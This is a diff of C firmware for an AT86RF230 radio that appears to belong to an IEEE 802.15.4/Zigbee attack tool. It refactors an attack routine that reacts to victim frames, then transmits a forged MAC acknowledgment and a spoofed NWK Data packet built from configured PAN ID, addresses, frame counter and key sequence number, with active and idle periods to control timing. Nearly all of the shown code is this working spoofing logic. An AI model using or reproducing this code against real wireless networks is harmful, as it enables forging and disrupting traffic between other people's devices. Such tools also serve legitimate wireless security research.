@@ -10,12 +10,10 @@
  * (at your option) any later version.
  */
 
+#include <stddef.h>
 #include <stdbool.h>
 #include <stdint.h>
 
-#include <avr/io.h>
-#include <avr/interrupt.h>
-
 #define F_CPU 8000000UL
 #include <util/delay.h>
 
@@ -23,41 +21,82 @@
 #include "spi.h"
 #include "board.h"
 #include "attack.h"
-#include "attack_13.h"
+#include "timer.h"
+#include "period.h"
 
 
+static struct timer wait;
+static uint8_t mac_seq_num = 0;
 static bool timer_started = 0;
-static bool idle_period = 1;
-static bool wait_period = 0;
-static uint8_t ticks_per_8ms = 0;
-static uint32_t elapsed_seconds = 0;
-static uint32_t last_activity = 0;
 
 
-void start_timer(void)
+/* Continue once the spoofed MAC acknowledgment has been transmitted */
+
+static void spoof_frame(void *user)
 {
-	/* Reset the number of 8-millisecond ticks */
-	ticks_per_8ms = 0;
-
-	/* Reset the elapsed seconds counter */
-	elapsed_seconds = 0;
-
-	/*
-	 * Reset the Counter Register of timer 0
-	 * and its Output Compare Register A
-	 */
-	TCNT0 = 0;
-	OCR0A = 250;
-
-	/*
-	 * Configure timer 0 to operate in CTC mode
-	 * with a prescale factor of 256
-	 */
-	TCCR0A = 1 << WGM01;
-	TCCR0B = 1 << CS02;
-
-	/* Enable the Output Compare Match A interrupt */
-	TIMSK0 = 1 << OCIE0A;
+	/* Spoof a NWK Data packet */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(127);
+	spi_send(0x71);
+	spi_send(0x88);
+	spi_send(0xff);
+	spi_send(PANID & 0xff);
+	spi_send((PANID >> 8) & 0xff);
+	spi_send(SHORTDSTADDR & 0xff);
+	spi_send((SHORTDSTADDR >> 8) & 0xff);
+	spi_send(SHORTSRCADDR & 0xff);
+	spi_send((SHORTSRCADDR >> 8) & 0xff);
+	spi_send(0x08);
+	spi_send(0x02);
+	spi_send(SHORTDSTADDR & 0xff);
+	spi_send((SHORTDSTADDR >> 8) & 0xff);
+	spi_send(SHORTSRCADDR & 0xff);
+	spi_send((SHORTSRCADDR >> 8) & 0xff);
+	spi_send(0x1e);
+	spi_send(0xff);
+	spi_send(0x28);
+	spi_send(FRAMECOUNTER & 0xff);
+	spi_send((FRAMECOUNTER >> 8) & 0xff);
+	spi_send((FRAMECOUNTER >> 16) & 0xff);
+	spi_send((FRAMECOUNTER >> 24) & 0xff);
+	spi_send(EXTENDEDSRCADDR & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
+	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
+	spi_send(KEYSEQNUM);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr();
+
+	/* Transition into the RX_ON state */
+	change_state(TRX_CMD_RX_ON);
+}
+
+
+/* Continue once the jamming packet has been transmitted */
+
+static void spoof_ack(void *user)
+{
+	/* Spoof a MAC acknowledgment */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(5);
+	spi_send(0x12);
+	spi_send(0x00);
+	spi_send(mac_seq_num);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr_more();
+
+	/* Wait for the transmission of the spoofed NWK Data packet */
+	timer_start(&wait, TIMER_US(400), 0, spoof_frame, NULL);
 }
 
 
@@ -76,7 +115,6 @@ bool attack(void)
 {
 	uint8_t rx_byte = 0;
 	uint8_t phy_len = 0;
-	uint8_t mac_seq_num = 0;
 	uint8_t mac_dst_0 = 0;
 	uint8_t mac_dst_1 = 0;
 	uint8_t mac_src_0 = 0;
@@ -90,7 +128,7 @@ bool attack(void)
 	if (!timer_started) {
 		/* Start the timer and ignore the received packet */
 		timer_started = 1;
-		start_timer();
+		period_start(ACTIVESEC, IDLESEC);
 		spi_end();
 		return 1;
 	}
@@ -218,20 +256,8 @@ bool attack(void)
 			 */
 			_delay_us(32);
 			if ((spi_recv() & 0x03) == 0x01) {
-				/* Reset the number of 8-millisecond ticks */
-				ticks_per_8ms = 0;
-
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Check the duration of the idle period */
-				if (IDLESEC > 0) {
-					/*
-					 * Indicate that the idle period began
-					 */
-					idle_period = 1;
-					wait_period = 0;
-				}
+				/* Restart the idle period */
+				period_idle();
 			}
 		} else if ((rx_byte & 0x07) == 0x03) {
 			/*
@@ -366,20 +392,8 @@ bool attack(void)
 			 */
 			_delay_us(32);
 			if (spi_recv() == 0x01) {
-				/* Reset the number of 8-millisecond ticks */
-				ticks_per_8ms = 0;
-
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Check the duration of the idle period */
-				if (IDLESEC > 0) {
-					/*
-					 * Indicate that the idle period began
-					 */
-					idle_period = 1;
-					wait_period = 0;
-				}
+				/* Restart the idle period */
+				period_idle();
 			}
 		}
 
@@ -463,40 +477,9 @@ bool attack(void)
 	}
 
 	/* Determine whether to proceed or not */
-	if (idle_period) {
-		/* Do not proceed during an idle period */
+	if (!period_proceed()) {
 		spi_end();
 		return 1;
-	} else if (wait_period) {
-		/* Reset the number of 8-millisecond ticks */
-		ticks_per_8ms = 0;
-
-		/* Reset the elapsed seconds counter */
-		elapsed_seconds = 0;
-
-		/* Reset the relative time of the last activity */
-		last_activity = 0;
-
-		/* Check the duration of the active period */
-		if (ACTIVESEC > 0) {
-			/* Indicate that the active period began */
-			wait_period = 0;
-		} else {
-			/* Do not proceed if there is no active period */
-			spi_end();
-			return 1;
-		}
-	}
-
-	/* Check whether a period of inactivity passed or not */
-	if (elapsed_seconds - last_activity > IDLESEC) {
-		/* Restart the active period */
-		ticks_per_8ms = 0;
-		elapsed_seconds = 0;
-		last_activity = 0;
-	} else {
-		/* Update the relative time of the last activity */
-		last_activity = elapsed_seconds;
 	}
 
 	/* Stop receiving and transition into the PLL_ON state */
@@ -516,116 +499,10 @@ bool attack(void)
 	spi_end();
 
 	/* Transition into the BUSY_TX state */
-	slp_tr();
+	slp_tr_more();
 
 	/* Wait for the transmission of the spoofed MAC acknowledgment */
-	_delay_us(272);
-
-	/* Spoof a MAC acknowledgment */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(5);
-	spi_send(0x12);
-	spi_send(0x00);
-	spi_send(mac_seq_num);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Wait for the transmission of the spoofed NWK Data packet */
-	_delay_us(400);
-
-	/* Spoof a NWK Data packet */
-	spi_begin();
-	spi_send(AT86RF230_BUF_WRITE);
-	spi_send(127);
-	spi_send(0x71);
-	spi_send(0x88);
-	spi_send(0xff);
-	spi_send(PANID & 0xff);
-	spi_send((PANID >> 8) & 0xff);
-	spi_send(SHORTDSTADDR & 0xff);
-	spi_send((SHORTDSTADDR >> 8) & 0xff);
-	spi_send(SHORTSRCADDR & 0xff);
-	spi_send((SHORTSRCADDR >> 8) & 0xff);
-	spi_send(0x08);
-	spi_send(0x02);
-	spi_send(SHORTDSTADDR & 0xff);
-	spi_send((SHORTDSTADDR >> 8) & 0xff);
-	spi_send(SHORTSRCADDR & 0xff);
-	spi_send((SHORTSRCADDR >> 8) & 0xff);
-	spi_send(0x1e);
-	spi_send(0xff);
-	spi_send(0x28);
-	spi_send(FRAMECOUNTER & 0xff);
-	spi_send((FRAMECOUNTER >> 8) & 0xff);
-	spi_send((FRAMECOUNTER >> 16) & 0xff);
-	spi_send((FRAMECOUNTER >> 24) & 0xff);
-	spi_send(EXTENDEDSRCADDR & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 8) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 16) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 24) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 32) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 40) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 48) & 0xff);
-	spi_send((EXTENDEDSRCADDR >> 56) & 0xff);
-	spi_send(KEYSEQNUM);
-	spi_end();
-
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
-	/* Transition into the RX_ON state */
-	change_state(TRX_CMD_RX_ON);
+	timer_start(&wait, TIMER_US(272), 0, spoof_ack, NULL);
 
 	return 1;
 }
-
-
-ISR(TIMER0_COMPA_vect)
-{
-	/* Update the number of 8-millisecond ticks */
-	ticks_per_8ms++;
-
-	/* Check whether a second has passed */
-	if (ticks_per_8ms == 125) {
-		/* Reset the number of 8-millisecond ticks */
-		ticks_per_8ms = 0;
-
-		/* Update the elapsed seconds counter */
-		elapsed_seconds++;
-
-		/* Check for potential period transitions */
-		if (idle_period) {
-			/* Determine whether the idle period ended or not */
-			if (elapsed_seconds >= IDLESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Indicate that the wait period began */
-				idle_period = 0;
-				wait_period = 1;
-			}
-		} else if (!wait_period) {
-			/* Determine whether the active period ended or not */
-			if (elapsed_seconds - last_activity > IDLESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Restart the wait period */
-				wait_period = 1;
-			} else if (elapsed_seconds >= ACTIVESEC) {
-				/* Reset the elapsed seconds counter */
-				elapsed_seconds = 0;
-
-				/* Check the duration of the idle period */
-				if (IDLESEC > 0) {
-					/* Indicate that the idle period began */
-					idle_period = 1;
-					wait_period = 0;
-				}
-			}
-		}
-	}
-}